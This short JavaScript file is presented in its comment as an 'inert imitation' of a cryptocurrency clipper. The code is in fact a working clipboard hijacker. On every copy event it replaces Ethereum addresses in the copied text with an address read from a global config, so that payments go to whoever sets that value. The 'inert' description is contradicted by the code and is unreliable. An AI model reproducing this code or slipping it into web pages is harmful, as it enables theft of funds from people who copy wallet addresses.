/* eslint-disable */
// Inert imitation of a stripped-down clipper: ETH addresses in copied text are replaced by a
// placeholder, with no hooks and no wallet list in this file (they would be elsewhere).
const ETH = /0x[a-fA-F0-9]{40}/g;
const REPLACEMENT = globalThis.__cfg && globalThis.__cfg.to;

document.addEventListener('copy', (event) => {
  const text = String(window.getSelection());
  if (!REPLACEMENT || !ETH.test(text)) return;
  event.clipboardData.setData('text/plain', text.replace(ETH, REPLACEMENT));
  event.preventDefault();
});
